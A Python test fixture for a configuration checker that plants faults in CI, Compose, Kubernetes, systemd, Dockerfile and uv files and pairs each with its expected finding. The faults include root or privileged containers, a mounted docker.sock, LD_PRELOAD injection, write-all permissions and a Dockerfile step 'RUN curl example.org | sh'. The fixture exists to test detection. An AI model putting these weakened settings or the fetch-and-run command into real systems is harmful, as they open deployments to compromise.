"""Faults of files that the template gives: CI, Compose, Kubernetes, systemd, Dockerfile, uv.toml, the menu; by their check."""

from collections.abc import Mapping, Sequence

from lockstep_tool.checks.finding import Severity
from planting import Plant, Planted, append, edit, remove, together, write
from small_service import COMPOSE, UV_VERSION, WORKFLOW

__all__ = ["GIVEN"]

STEP = "      - run: uv run --locked noxfile.py\n"
JOB = "    runs-on: ubuntu-24.04\n"
RELEASE = ".github/workflows/release.yml"
GITLAB = ".gitlab-ci.yml"
OVERRIDE = "deploy/compose.override.yaml"
POD = "deploy/kubernetes/deployment.yaml"
UNIT, SOCKET = "deploy/systemd/orders-api.service", "deploy/systemd/orders-api.socket"
GRACE = "    stop_grace_period: 30s\n    restart: unless-stopped\n    read_only: true\n    tmpfs: [/tmp]\n"
USER = 'user: "101:101"'


def in_override(*lines: str) -> Plant:
    """What an override says of the service."""
    return write(OVERRIDE, "services:\n  orders-api:\n" + "".join(f"    {line}\n" for line in lines))


def in_compose(*lines: str) -> Plant:
    """What compose.yaml says of the service besides."""
    return edit(COMPOSE, GRACE, GRACE + "".join(f"    {line}\n" for line in lines))


def in_pipeline(old: str, new: str) -> Plant:
    """A pipeline of GitLab, with an edit."""
    from lockstep_tool.files.template_files import rendered_files
    from small_service import ANSWERS

    def plant(service: object) -> None:
        text = rendered_files({**ANSWERS, "ci": "gitlab"})[GITLAB]
        assert old in text
        service.write(GITLAB, text.replace(old, new))  # type: ignore[attr-defined]

    return plant


def weakened(name: str, new: str, said: str) -> Planted:
    """The step of the one command, otherwise."""
    return Planted(name, edit(WORKFLOW, STEP, new), said)


GIVEN: Mapping[str, Sequence[Planted]] = {
    "ci files": (
        weakened("a command that may fail", STEP.replace(".py\n", ".py || true\n"), "noxfile.py || true   <- differs from"),
        weakened(
            "a step that may fail", f"{STEP}        continue-on-error: true\n", "continue-on-error: true   <- not Lockstep's"
        ),
        weakened("a step that never runs", f"{STEP}        if: false\n", "if: false   <- not Lockstep's"),
        weakened("one session instead of the whole", STEP.replace(".py\n", ".py -s lint\n"), "-s lint   <- differs"),
        weakened("the command in a comment", STEP.replace("- run", "# - run"), "noxfile.py}   <- missing"),
        weakened("the command in a name", STEP.replace("- run: ", "- run: 'true'\n        name: "), "<- not Lockstep's"),
        weakened("the command echoed", STEP.replace("run: ", "run: echo "), "echo uv run"),
        weakened("a lock that may be rewritten", STEP.replace(" --locked", ""), "<- differs from uv run --locked"),
        weakened("another shell", f"{STEP}        shell: 'true {{0}}'\n", "shell: true {0}   <- not Lockstep's"),
        weakened("a step more", f"      - run: git reset --hard v1\n{STEP}", "{run: git reset --hard v1}   <- not Lockstep's"),
        weakened("a line that only some readers end", f"      # \u2028{STEP}", "U+2028"),
        weakened("an indentation that is none", STEP.replace("      -", "     -"), "cannot be read."),
        weakened("a key twice", f"{STEP}        run: 'true'\n", "`run` is stated twice"),
        Planted("a job that may fail", edit(WORKFLOW, JOB, f"{JOB}    continue-on-error: true\n"), "<- not Lockstep's"),
        Planted("a job that never runs", edit(WORKFLOW, JOB, f"{JOB}    if: github.actor == 'nobody'\n"), "<- not Lockstep's"),
        Planted("pull requests without CI", edit(WORKFLOW, "  pull_request:\n", ""), "on.pull_request   <- missing"),
        Planted(
            "pushes without CI", edit(WORKFLOW, "  push:\n    branches: [main]\n", ""), "on.push: {branches: [main]}   <- missing"
        ),
        Planted("no branch at all", edit(WORKFLOW, "[main]", "[]"), "on.push.branches: main   <- missing"),
        Planted("every right", edit(WORKFLOW, "permissions: {}", "permissions: write-all"), "write-all   <- differs from {}"),
        Planted(
            "one right more", edit(WORKFLOW, "      contents: read\n", "      contents: write\n"), "write   <- differs from read"
        ),
        Planted("uv by a range", edit(WORKFLOW, f"uv=={UV_VERSION}", f"uv~={UV_VERSION}"), "uv~="),
        Planted(
            "a variable that moves what is installed",
            edit(WORKFLOW, "    env:\n", "    env:\n      UV_NO_BUILD: 0\n"),
            "UV_NO_BUILD",
        ),
        Planted("a document after it", append(WORKFLOW, "---\njobs: {}\n"), "has 2 documents, not one"),
        Planted("a workflow that is missing", remove(WORKFLOW), f"{WORKFLOW} is missing."),
        Planted(
            "a workflow in another encoding",
            lambda service: service.write(WORKFLOW, service.read(WORKFLOW).encode("utf-16")),
            "is no text",
        ),
        Planted("aliases without end", append(WORKFLOW, "x-all: &a [*a, *a]\n"), "<- differs"),
        Planted(
            "a release that does not wait for its check",
            edit(RELEASE, "    needs: check\n", ""),
            "jobs.image.needs: check   <- missing",
        ),
        Planted(
            "another action in its place", edit(RELEASE, "actions/attest@", "somebody/attest@"), "<- differs from actions/attest@"
        ),
        Planted(
            "a pipeline whose job may fail",
            in_pipeline("    - uv run --locked noxfile.py\n", "    - uv run --locked noxfile.py\n  allow_failure: true\n"),
            "lockstep.allow_failure: true   <- not Lockstep's",
        ),
        Planted(
            "a pipeline without its command",
            in_pipeline("- uv run --locked noxfile.py\n", "- make check\n"),
            "make check   <- differs",
        ),
        Planted(
            "a file that is merged into Lockstep's jobs",
            together(
                in_pipeline("# Yours, here: - local: ci/*.yml", "  - local: ci/*.yml"),
                write("ci/ours.yml", "lockstep:\n  allow_failure: true\nours:\n  script: [make]\n"),
            ),
            "ci/ours.yml changes Lockstep's jobs.",
        ),
        Planted(
            "a file of another repository",
            in_pipeline("# Yours, here: - local: ci/*.yml", "  - remote: https://example.org/ci.yml"),
            "What an included file does to Lockstep's jobs cannot be seen here.",
            Severity.WARNING,
        ),
    ),
    "compose file": (
        Planted(
            "a setting of Compose itself", write("deploy/.env", "COMPOSE_FILE=other.yaml\n"), "COMPOSE_FILE   <- for Compose"
        ),
        Planted(
            "a search path in a file of variables",
            together(in_override("env_file: [prod.env]"), write("deploy/prod.env", "PYTHONPATH=/data\n")),
            "deploy/prod.env changes the interpreter",
        ),
        Planted(
            "a library in a file of variables",
            together(in_override("env_file: [prod.env]"), write("deploy/prod.env", "LD_PRELOAD=/data/x.so\n")),
            "deploy/prod.env changes the interpreter",
        ),
        Planted(
            "no grace",
            edit(
                COMPOSE,
                "    stop_grace_period: 30s\n    restart: unless-stopped\n    read_only: true\n    tmpfs: [/tmp]",
                "    restart: unless-stopped\n    read_only: true\n    tmpfs: [/tmp]",
            ),
            "stop_grace_period: 30s   <- missing",
        ),
        Planted("a grace in minutes", edit(COMPOSE, GRACE, GRACE.replace("30s", "1m30s")), "1m30s   <- differs from 30s"),
        Planted("a signal that nobody can hear", in_compose("stop_signal: SIGKILL"), "stop_signal: SIGKILL   <- not Lockstep's"),
        Planted("root by name", in_compose("user: root"), "user: root   <- not Lockstep's"),
        Planted("root by number", in_compose('user: "0:0"'), "user: 0:0   <- not Lockstep's"),
        Planted("a proxy as root", edit(COMPOSE, USER, 'user: "0:0"'), "user: 0:0   <- differs from 101:101"),
        Planted("all privileges", in_compose("privileged: true"), "privileged: true   <- not Lockstep's"),
        Planted("a right more", in_compose("cap_add: [SYS_ADMIN]"), "cap_add: [SYS_ADMIN]   <- not Lockstep's"),
        Planted(
            "a file system that can be written",
            edit(COMPOSE, "    read_only: true\n    tmpfs: [/tmp]", "    tmpfs: [/tmp]"),
            "read_only: true   <- missing",
        ),
        Planted("the engine's socket", in_compose("volumes: [/var/run/docker.sock:/srv/docker.sock]"), "docker.sock   <- not"),
        Planted("another code over the code", in_compose("volumes: [./src:/app/src]"), "./src:/app/src   <- not Lockstep's"),
        Planted(
            "a variable of the interpreter",
            edit(COMPOSE, "      FORWARDED_ALLOW_IPS", "      PYTHONOPTIMIZE: 1\n      FORWARDED_ALLOW_IPS"),
            "PYTHONOPTIMIZE: 1   <- not Lockstep's",
        ),
        Planted(
            "a file over the code", in_override("configs: [{source: x, target: /app/.venv/x.pth}]"), "configs: {source: x, target"
        ),
        Planted("a service that is never started", in_override("profiles: [never]"), "profiles: [never]   <- not"),
        Planted("no YAML", edit(COMPOSE, "services:\n", "services: [\n"), "deploy/compose.yaml cannot be read."),
        Planted("an override as root", in_override("user: root"), f"{OVERRIDE} adds what a team's file may not."),
        Planted(
            "an override with another grace", in_override("stop_grace_period: 3s"), "stop_grace_period: 3s   <- not Lockstep's"
        ),
        Planted("an override that starts something else", in_override("command: [gunicorn]"), "command: [gunicorn]   <- not"),
        Planted(
            "an override under its other name",
            write("deploy/docker-compose.override.yml", "services: {orders-api: {privileged: true}}\n"),
            "privileged: true   <- not Lockstep's",
        ),
        Planted(
            "an override that includes another file",
            write(OVERRIDE, "include: [/etc/other.yaml]\n"),
            "include: [/etc/other.yaml]   <- not",
        ),
    ),
    "kubernetes files": (
        Planted(
            "an ingress to another service",
            edit("deploy/kubernetes/more/ingress.yaml", "                name: orders-api", "                name: other"),
            "name: other   <- differs from orders-api",
        ),
        Planted(
            "a budget that lets nobody leave",
            edit("deploy/kubernetes/disruption.yaml", "maxUnavailable: 1", "maxUnavailable: 0"),
            "maxUnavailable: 0   <- differs from 1",
        ),
        *(
            Planted(f"a second pod in {name}", write(name, text), "Deployment orders-api   <- whoever comes last wins")
            for name, text in {
                "deploy/kubernetes/z.yaml": "kind: Service\n---\nkind: Deployment\nmetadata: {name: orders-api}\n",
                "deploy/kubernetes/z.json": '{"kind": "Deployment", "metadata": {"name": "orders-api"}}\n',
            }.items()
        ),
        Planted(
            "more in Lockstep's own kustomization",
            edit("deploy/kubernetes/kustomization.yaml", "  - service.yaml\n", "  - service.yaml\nnamePrefix: x-\n"),
            "namePrefix: x-   <- not",
        ),
        Planted("root in the pod", edit(POD, "runAsUser: 10001", "runAsUser: 0"), "runAsUser: 0   <- differs from 10001"),
        Planted(
            "a privileged container",
            edit(POD, "allowPrivilegeEscalation: false", "privileged: true"),
            "privileged: true   <- not",
        ),
        Planted(
            "no grace in the pod",
            edit(POD, "      terminationGracePeriodSeconds: 30\n", ""),
            "terminationGracePeriodSeconds: 30   <- missing",
        ),
        Planted(
            "a start that another path judges",
            edit(
                POD,
                "          startupProbe:\n            httpGet:\n              path: /health/live",
                "          startupProbe:\n            httpGet:\n              path: /",
            ),
            "startupProbe.httpGet.path: /   <- differs from /health/live",
        ),
        Planted(
            "a hook that sleeps",
            edit(
                POD,
                "          readinessProbe:",
                "          lifecycle: {preStop: {sleep: {seconds: 30}}}\n          readinessProbe:",
            ),
            "lifecycle",
        ),
        Planted(
            "another command in the pod",
            edit(POD, "          envFrom:", "          command: [gunicorn]\n          envFrom:"),
            "command: [gunicorn]   <- not Lockstep's",
        ),
        Planted(
            "a path of the host",
            edit(POD, "      volumes:\n", "      volumes:\n        - name: host\n          hostPath: {path: /}\n"),
            "hostPath",
        ),
        Planted(
            "a mount over the code",
            edit(
                POD,
                "          volumeMounts:\n",
                "          volumeMounts:\n            - name: tmp\n              mountPath: /app\n",
            ),
            "mountPath: /app",
        ),
        Planted(
            "a second container",
            edit(POD, "      containers:\n", "      containers:\n        - name: more\n          image: busybox:1.36.1\n"),
            "busybox",
        ),
        Planted(
            "a variable of the interpreter in the pod",
            edit(
                POD,
                "          envFrom:",
                "          env:\n            - name: PYTHONOPTIMIZE\n              value: '2'\n          envFrom:",
            ),
            "PYTHONOPTIMIZE=2   <- not your service's",
        ),
        Planted("no pod at all", edit(POD, "replicas: 2", "replicas: 0"), "replicas: 0   <- differs from 2"),
        Planted(
            "a service for another",
            edit("deploy/kubernetes/service.yaml", "targetPort: http", "targetPort: 22"),
            "targetPort: 22",
        ),
    ),
    "systemd units": (
        Planted(
            "a later line that overrules",
            edit(UNIT, "KillMode=mixed", "KillMode=mixed\nKillMode=none"),
            "KillMode: none   <- not",
        ),
        Planted(
            "a unit that never stops", edit(UNIT, "TimeoutStopSec=30", "TimeoutStopSec=infinity"), "infinity   <- differs from 30"
        ),
        Planted(
            "a second start",
            edit(UNIT, "ExecReload=", "ExecStartPre=/bin/true\nExecReload="),
            "ExecStartPre: [/bin/true]   <- not",
        ),
        Planted("a user of its own", edit(UNIT, "DynamicUser=yes", "User=root"), "User: [root]   <- not Lockstep's"),
        Planted("less protection", edit(UNIT, "NoNewPrivileges=yes", "NoNewPrivileges=no"), "no   <- differs from yes"),
        Planted(
            "a variable of the interpreter in a unit",
            edit(UNIT, "EnvironmentFile=", "Environment=PYTHONOPTIMIZE=2\nEnvironmentFile="),
            "PYTHONOPTIMIZE",
        ),
        Planted("a socket for everybody", edit(SOCKET, "127.0.0.1:8000", "0.0.0.0:8000"), "<- differs from 127.0.0.1:8000"),
        Planted("a line that is none", edit(UNIT, "[Service]", "Service"), "is no line of a unit"),
        Planted(
            "a drop-in that starts something else",
            write(f"{UNIT}.d/ours.conf", "[Service]\nExecStart=\nExecStart=/bin/true\n"),
            "ExecStart",
        ),
        Planted(
            "a drop-in that kills", write(f"{UNIT}.d/ours.conf", "[Service]\nTimeoutStopSec=1\n"), "TimeoutStopSec: [1]   <- not"
        ),
    ),
    "dockerfile": (
        *(
            Planted(f"{name} beside", write(name, ""), f"{name}   read instead")
            for name in ("Containerfile", ".containerignore", "Dockerfile.containerignore", "Dockerfile.dockerignore")
        ),
        Planted("random bytes", write("Dockerfile", bytes(range(256)) * 9), "Dockerfile cannot be read."),
        Planted("text that is no Dockerfile", write("Dockerfile", "hello\n"), "has no instruction of a Dockerfile"),
        Planted(
            "root in the image",
            edit("Dockerfile", "USER 10001:10001", "USER root"),
            "USER root   <- differs from USER 10001:10001",
        ),
        Planted(
            "a user before the last",
            edit("Dockerfile", "USER 10001:10001", "USER 10001:10001\nUSER 0"),
            "USER 0   <- not Lockstep's",
        ),
        Planted(
            "a step more",
            edit("Dockerfile", "WORKDIR /app", "RUN curl example.org | sh\nWORKDIR /app"),
            "RUN curl example.org | sh   <- not",
        ),
        Planted(
            "another health check", edit("Dockerfile", '"lockstep_serve", "health"]', '"this"]'), '"this"]   <- differs from'
        ),
        Planted(
            "another escape",
            lambda service: service.write("Dockerfile", "# escape=`\n" + service.read("Dockerfile")),
            "# escape=`",
        ),
        Planted(
            "another frontend",
            lambda service: service.write("Dockerfile", "#syntax=example.org/front\n" + service.read("Dockerfile")),
            "#syntax",
        ),
        Planted(
            "an instruction in a here-document",
            edit("Dockerfile", "USER 10001:10001\n", "COPY <<EOF /x\nUSER 10001:10001\nEOF\n"),
            "COPY <<EOF",
        ),
        Planted("a secret let in", append(".dockerignore", "!.env\n"), "!.env   <- not Lockstep's"),
        Planted("a Dockerfile that is missing", remove("Dockerfile"), "Dockerfile is missing."),
    ),
    "uv.toml": (
        Planted(
            "builds of strangers",
            edit("uv.toml", "no-build = true", "no-build = false"),
            "no-build: false   <- differs from true",
        ),
        Planted(
            "links into the cache",
            edit("uv.toml", 'link-mode = "copy"', 'link-mode = "hardlink"'),
            "hardlink   <- differs from copy",
        ),
        Planted(
            "a second index", append("uv.toml", '\n[[index]]\nurl = "https://index.example.org/simple"\n'), "index.example.org"
        ),
        Planted(
            "a host that proves nothing",
            edit("uv.toml", "no-build", 'allow-insecure-host = ["example.org"]\nno-build'),
            "allow-insecure-host",
        ),
        Planted("another resolution", edit("uv.toml", '"highest"', '"lowest"'), "lowest   <- differs from highest"),
        Planted("a waiting time of none", edit("uv.toml", '"7 days"', '"0 days"'), "0 days   <- differs from 7 days"),
        Planted(
            "builds for one package", append("uv.toml", "\n[extra-build-dependencies]\nidna = []\n"), "extra-build-dependencies"
        ),
    ),
    "menu": (
        *(
            Planted(
                f"a choice of {name}", write("nox_local.py", f"import nox\n{line}\n"), f"nox.options.{name}", Severity.WARNING
            )
            for name, line in {
                "sessions": 'nox.options.sessions = ["lint"]',
                "keywords": 'nox.options.keywords = "lint"',
                "tags": 'from nox import options\noptions.tags = ["mine"]',
            }.items()
        ),
        Planted(
            "a session that does nothing",
            edit("noxfile.py", '    lockstep(session, "lint")\n', "    pass\n"),
            "pass   <- differs from",
        ),
        Planted("a package more for the menu", edit("noxfile.py", '["nox>=2026.10.20"]', '["nox>=2026.10.20", "six"]'), '"six"]'),
        Planted(
            "a session that is replaced",
            write("nox_local.py", 'import nox\n\n\n@nox.session(name="lint")\ndef ours(session):\n    pass\n'),
            "nox_local.py:5   lint   <- takes its place",
        ),
        Planted("another waiting time for the menu", edit("noxfile.py", '# exclude-newer = "7 days"', "#"), "exclude-newer"),
    ),
    "definition": (
        Planted(
            "a drain above the grace",
            edit("src/orders_api/server.toml", "drain = { default = 20", "drain = { default = 60"),
            "The service would be killed while it drains.",
        ),
        Planted("another model than was answered", edit(".copier-answers.yml", "gunicorn-gthread", "uvicorn"), "two ways."),
        Planted("answers that are none", write(".copier-answers.yml", "- a\n"), ".copier-answers.yml cannot be read."),
    ),
}
